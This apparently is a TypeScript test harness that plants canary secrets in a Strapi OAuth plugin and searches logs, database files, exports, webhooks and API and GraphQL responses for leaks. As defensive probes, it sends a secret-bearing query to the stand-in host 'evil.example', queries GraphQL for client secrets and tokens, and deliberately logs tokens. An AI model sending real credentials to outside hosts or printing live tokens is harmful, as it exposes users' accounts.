import { execFile } from 'node:child_process';
import { readdirSync, readFileSync, rmSync } from 'node:fs';
import path from 'node:path';
import { setTimeout as sleep } from 'node:timers/promises';
import { inspect, promisify } from 'node:util';

import request from 'supertest';

import { UID } from '../../../server/src/constants';
import type { Canary } from './canaries';
import { echoes } from '../providers/echoes';
import { everyAddress } from '../strapi/every-address';
import { House, ownerOf } from '../strapi/house';
import { startHttpServer, type Handler } from '../network/http-server';
import { LeakRecorder, type Leakage } from './leak-recorder';
import { APP_DIR, temporaryDatabase } from '../strapi/strapi';
import { TestAuthorizationServer } from '../providers/authorization-server/server';

/** Planted in places that anybody may read, to prove that the search covers each of them. */
export const PLANTED = 'planted-canary-that-must-be-found';

const READ_TIMEOUT_MS = 3_000;
const API_QUERY = 'querycanaryofanapiaddress';
const STRAPI_CLI = path.resolve(__dirname, '../../../node_modules/@strapi/strapi/bin/strapi.js');
const INTROSPECTION = '{ __schema { types { name fields { name } inputFields { name } } } }';

/** Bytes of the database's file, and of its journals. */
const filesOf = (database: string): Leakage[] => {
  const folder = path.dirname(database);
  const names = readdirSync(folder).filter((name) => name.startsWith(path.basename(database)));
  return names.map((name) => ({
    place: name,
    content: readFileSync(path.join(folder, name), 'latin1'),
  }));
};

/** What left a Strapi during a whole run, and the secrets that must not. */
export interface CanaryRun {
  records: readonly Leakage[];
  canaries: readonly Canary[];
}

/**
 * A Strapi with GraphQL and a webhook, at the most verbose log level, and a provider that
 * repeats secrets wherever it can: from the first form to the deletion of the app.
 */
export const runWithCanaries = async (): Promise<CanaryRun> => {
  const folder = path.dirname(temporaryDatabase());
  const database = path.join(folder, 'data.db');
  const logFile = path.join(folder, 'strapi.log');
  const archive = path.join(folder, 'export');
  const tickets: string[] = [];

  const house = await House.openWith(
    () => TestAuthorizationServer.start({ accessTokenTtlSeconds: 60 }),
    { database, logFile, hasGraphQL: true }
  );
  const { provider } = house;
  const recorder = new LeakRecorder(house.strapi, logFile);
  const webhook = await startHttpServer((_request, response) => void response.writeHead(200).end());
  const app = await house.createApp({ name: 'Canary Mail' });
  const ref = { app: app.key, owner: ownerOf(house.admin) };

  const asAdmin = (method: 'get' | 'post', address: string, body?: object) => {
    const call = request(house.booted.url)[method](address);
    return call.set('authorization', `Bearer ${house.admin.token}`).send(body);
  };

  const startWebhook = async () => {
    const events = house.strapi.get('webhookStore').allowedEvents as Map<string, string>;
    const body = { name: 'all', url: webhook.origin, events: [...events.values()], headers: {} };
    await asAdmin('post', '/admin/webhooks', body).expect(201);
  };

  const plant = async () => {
    recorder.add('error', inspect(new Error(PLANTED)));
    house.strapi.log.debug(PLANTED);
    process.stdout.write(`${PLANTED}\n`);
    await house.strapi.db
      .query(UID.connection)
      .updateMany({ where: { appKey: app.key }, data: { accountLabel: PLANTED } });
    await house.strapi.documents('plugin::users-permissions.user').create({
      data: { username: PLANTED, email: 'planted@fixture.test', password: 'Planted-1234' },
    });
  };

  const ticket = async (): Promise<string> => {
    const opened = await house.ticket(house.admin, app.key);
    tickets.push(opened);
    return opened;
  };

  const connect = async () => house.complete(house.admin, await ticket());

  const uid = async () => (await house.connectionsOf(house.admin))[0]?.uid ?? 'none';

  const save = (data: object) => house.api(house.admin, 'put', `/apps/${app.key}`, { data });

  const refreshNow = async () => {
    await house.api(house.admin, 'post', `/connections/${await uid()}/refresh`);
    await recorder.attempt(house.tokens.getAccessToken(ref, { forceRefresh: true }));
  };

  const withFault = async (pathname: string, handler: Handler, work: () => Promise<unknown>) => {
    provider.handle(pathname, handler);
    await recorder.attempt(work());
    provider.handle(pathname, null);
  };

  /** What the provider would have issued; it is secret even in a faulty response. */
  const issued = () => provider.issueTokens(app.clientId);

  const refuseAtTheCallback = async () => {
    const url = new URL(await house.authorizationUrl(house.admin, app.key));
    const state = url.searchParams.get('state') ?? '';
    provider.consent(url.href);
    const said = `${state} ${encodeURIComponent(state)} ${url.search}`;
    const address = `${house.booted.url}/api/connected-apps/callback/${app.key}`;
    for (const error of ['access_denied', state, `bad.${state}`.slice(0, 60)]) {
      const answer = new URLSearchParams({
        error,
        error_description: said,
        state,
        iss: provider.issuer,
      });
      await fetch(`${address}?${answer}`, { redirect: 'manual' });
      await fetch(address, { method: 'POST', body: answer, redirect: 'manual' });
    }
  };

  const faultyExchanges = async () => {
    for (const [, handler] of echoes(issued)) {
      await withFault('/token', handler, connect);
      await save({ enabled: true });
    }
  };

  const faultyRefreshes = async () => {
    for (const [, handler] of echoes(issued)) {
      await save({ enabled: true });
      await connect();
      await withFault('/token', handler, refreshNow);
      await withFault('/token', handler, () => house.tokens.clientCredentials(app.key));
    }
  };

  const faultyUserInfo = async () => {
    await save({ scopes: ['mail.read'] });
    for (const [, handler] of echoes(issued)) await withFault('/userinfo', handler, connect);
    await save({ scopes: ['openid', 'email', 'mail.read'] });
  };

  const faultyRevocations = async () => {
    for (const [, handler] of echoes(issued)) {
      await connect();
      await withFault('/revoke', handler, () => house.tokens.disconnect(ref));
    }
  };

  const faultyTokenExchanges = async () => {
    await connect();
    for (const [, handler] of echoes(issued)) {
      await withFault('/token', handler, () => house.tokens.exchange(ref));
    }
  };

  const faultyIntrospections = async () => {
    const clientSecret = provider.secrets.byName.clientSecret[0];
    await save({ introspectionEndpoint: `${provider.issuer}/introspect`, clientSecret });
    await connect();
    for (const [, handler] of echoes(issued)) {
      await withFault('/introspect', handler, () => house.tokens.introspect(ref));
    }
  };

  const apiCalls = async () => {
    await connect();
    const url = `${provider.issuer}/api?secret=${API_QUERY}`;
    for (const [, handler] of echoes(issued)) {
      await withFault('/api', handler, async () => void (await house.tokens.fetch(ref, url)));
    }
    await recorder.attempt(house.tokens.fetch(ref, `https://evil.example/?secret=${API_QUERY}`));
    await recorder.attempt(house.tokens.fetch(ref, `/?secret=${API_QUERY}`));
  };

  /** What a plugin's author does by accident. */
  const printTokens = async () => {
    const token = await house.tokens.getToken(ref);
    house.strapi.log.debug(token);
    house.strapi.log.debug(`${token} ${JSON.stringify({ token })} ${inspect({ token })}`);
    // eslint-disable-next-line no-console -- the mistake that this is about
    console.log(token, { token });
    await house.strapi.eventHub.emit('fixture.token', { token });
  };

  const wrongSecret = async () => {
    const right = provider.secrets.byName.clientSecret[0];
    await save({ clientSecret: `wrong${right}` });
    await connect();
    await save({ clientSecret: right });
  };

  const renewInBackground = async () => {
    await connect();
    house.travel(120);
    await recorder.attempt(house.booted.internals.backgroundRefresh.run());
    jest.mocked(house.booted.internals.clock.now).mockRestore();
  };

  /** An address may respond with anything, or not at all. */
  const read = (call: request.Test) =>
    recorder.attempt(call.timeout(READ_TIMEOUT_MS).then(() => undefined));

  const readEverything = async () => {
    for (const address of await everyAddress(house.strapi)) {
      await read(asAdmin('get', address));
      if (address.startsWith('/api')) await read(request(house.booted.url).get(address));
    }
  };

  const graphql = (query: string) =>
    request(house.booted.url)
      .post('/graphql')
      .send({ query })
      .set('content-type', 'application/json');

  const askGraphQL = async () => {
    await graphql(INTROSPECTION);
    await graphql('{ connectedApps { clientSecret } connections { accessToken refreshToken } }');
    await graphql('{ authorizationRequests { codeVerifier receivedParams } }');
  };

  const deleteApp = async () => {
    await house.api(house.admin, 'delete', `/apps/${app.key}`);
    // The grants are revoked in the background.
    await sleep(500);
  };

  const searchDatabase = () => {
    for (const { place, content } of filesOf(database))
      recorder.add(`database file ${place}`, content);
  };

  const exportEverything = async () => {
    const args = [STRAPI_CLI, 'export', '--no-encrypt', '--no-compress', '-f', archive];
    // Another process, which cannot load the plugin's source.
    const built = { FIXTURE_PLUGIN_SOURCE: 'false' };
    const log = { FIXTURE_LOG_FILE: undefined, FIXTURE_LOG_LEVEL: 'debug' };
    const { stdout, stderr } = await promisify(execFile)(process.execPath, args, {
      cwd: APP_DIR,
      env: { ...process.env, ...built, ...log },
    });
    recorder.add('output of the export', stdout + stderr);
    recorder.add('export', readFileSync(`${archive}.tar`, 'latin1'));
    rmSync(`${archive}.tar`);
  };

  const canaries = (): Canary[] => {
    const signatureOf = (jwt: string) => jwt.split('.').at(-1) ?? '';
    return [
      ...provider.secrets.all.map(({ name, value }) => ({
        name,
        value: name === 'idToken' ? signatureOf(value) : value,
      })),
      ...tickets.map((value) => ({ name: 'ticket', value })),
      { name: 'query', value: API_QUERY },
      { name: 'planted', value: PLANTED },
    ];
  };

  const steps = [
    startWebhook,
    wrongSecret,
    connect,
    refreshNow,
    refuseAtTheCallback,
    faultyExchanges,
    faultyRefreshes,
    faultyUserInfo,
    faultyRevocations,
    faultyTokenExchanges,
    faultyIntrospections,
    apiCalls,
    printTokens,
    renewInBackground,
    plant,
    searchDatabase,
    exportEverything,
    readEverything,
    askGraphQL,
    deleteApp,
    searchDatabase,
  ];

  try {
    for (const step of steps) await step();
    for (const { method, headers, body } of webhook.requests) {
      recorder.add('webhook', `${method} ${JSON.stringify(headers)} ${body}`);
    }
  } finally {
    recorder.stop();
    await house.close();
    await webhook.close();
    rmSync(folder, { recursive: true, force: true });
  }
  return { records: recorder.records, canaries: canaries() };
};
